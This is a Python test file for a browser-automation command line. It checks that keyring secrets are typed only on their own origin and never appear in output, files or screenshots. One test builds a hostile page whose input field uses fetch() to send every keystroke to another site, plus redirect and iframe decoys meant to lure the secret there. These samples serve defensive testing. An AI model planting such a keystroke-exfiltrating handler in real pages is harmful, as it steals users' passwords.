"""Secrets from the keyring to the page, through the command line: typed where they belong, and nowhere to be seen."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import keyring
import pytest

from browser_runs.room import Room
from doors.cli.command import goal
from tools.browser.file_keyring import CHOSEN, FILE_VARIABLE, FileKeyring
from tools.browser.sites import Site

VALUE = 'Pa$$ wörd&<42>"x'
SHOUTED = "<p style='text-transform: uppercase' id=p></p>"
FORM = f"""<form action=/sent><label>Code <input name=code oninput="p.textContent = document.title = this.value;
    b.title = JSON.stringify(this.value)"></label><b id=b>x</b>{SHOUTED}<button>Send</button></form>"""


@pytest.fixture
def kept(room: Room, tmp_path: Path) -> Iterator[dict[str, str]]:
    """An environment with a keyring of its own, in this process too."""
    environment = {**CHOSEN, FILE_VARIABLE: str(tmp_path / "keyring.json")}
    before = keyring.get_keyring()
    keyring.set_keyring(FileKeyring())
    yield environment
    keyring.set_keyring(before)
    (room.folder / "state" / "browser" / "secrets.json").unlink(missing_ok=True)


def spelled(value: str) -> set[bytes]:
    """The value as it may be found in a file or on a screen."""
    quoted = (json.dumps(value)[1:-1], json.dumps(value, ensure_ascii=False)[1:-1])
    return {way.encode() for way in (value, value.upper(), quote_plus(value), *quoted)}


def everything_kept(room: Room) -> bytes:
    """All that commands have left, what the browser itself keeps of pages apart."""
    files = [file for file in (room.folder / "state").rglob("*") if file.is_file() and "profile" not in file.parts]
    return b"\n".join(str(file).encode() + file.read_bytes() for file in files)


def test_a_secret_is_typed_into_its_page_and_no_command_shows_or_keeps_it(
    room: Room, site: Site, kept: dict[str, str]
) -> None:
    site.page("<p>sent", path="/sent")
    url = site.page(FORM)
    origin = ("--origin", site.address)
    told = [room("secret", "set", "bank", *origin, stdin=f"{VALUE}\n", environment=kept)]
    for arguments in (
        (f"go to {url}",),
        ('type "{{secret:bank}}" into the code field',),
        ("read the page", "--json"),
        ("--goals", room.goals(goal("browser.read", selector="label=Code")), "--json"),
        ("click the button named Nothing",),
        ("show",),
        ("click the Send button", "--yes", "--json"),
        ("take a screenshot", "--json"),
        ("show", "--json"),
        ("history", "--json"),
        ("world",),
        ("facts",),
        ("secret", "list"),
    ):
        told.append(room(*arguments, environment=kept))
    assert [outcome.code for outcome in told] == [0, 0, 0, 0, 0, 5, *[0] * 8], told
    assert site.hits[-1] == f"/sent?code={quote_plus(VALUE)}"
    shown = "\n".join(outcome.out + outcome.err for outcome in told).encode()
    for way in spelled(VALUE):
        assert way not in shown
        assert way not in everything_kept(room)
    assert "•••" in told[3].out
    assert told[4].document["answers"][0]["output"]["text"] == "•••"


def test_a_secret_goes_nowhere_else_whatever_the_page_does(
    room: Room, site: Site, other_site: Site, kept: dict[str, Any]
) -> None:
    room("secret", "set", "bank", "--origin", site.address, stdin=f"{VALUE}\n", environment=kept)
    evil = other_site.page("<label>Code <input oninput=\"fetch('/got?' + encodeURIComponent(this.value))\"></label>")
    typing = goal("browser.type", text="{{secret:bank}}", selector="label=Code")
    away = f"<label>Code <input></label><script>setTimeout(() => location = '{evil}', 1)</script>"
    for url in (evil, site.page(f"<iframe src='{evil}'></iframe>"), site.page(away)):
        document = room.act(goal("browser.navigate", url=url), typing, code=5, **kept)
        assert f"may be typed on {site.address} only" in document["outcomes"]["g1_type_1"]["error"]
        assert VALUE not in str(document)
    assert not [hit for hit in other_site.hits if hit.startswith("/got")]


def test_a_locked_keyring_types_nothing_and_shows_nothing_of_a_page_with_a_secret(
    room: Room, site: Site, kept: dict[str, Any]
) -> None:
    room("secret", "set", "bank", "--origin", site.address, stdin=f"{VALUE}\n", environment=kept)
    typing = goal("browser.type", text="{{secret:bank}}", selector="label=Code")
    room.act(goal("browser.navigate", url=site.page(FORM)), typing, **kept)
    Path(kept[FILE_VARIABLE]).with_suffix(".locked").touch()
    assert "while the keyring is locked" in room.act(typing, code=5, **kept)["outcomes"]["g0_type_1"]["error"]
    read = room.act(goal("browser.read", selector="label=Code"), **kept)
    assert read["answers"][0]["output"]["text"] == "••• (hidden while the keyring is locked)"
    assert VALUE not in str(read)
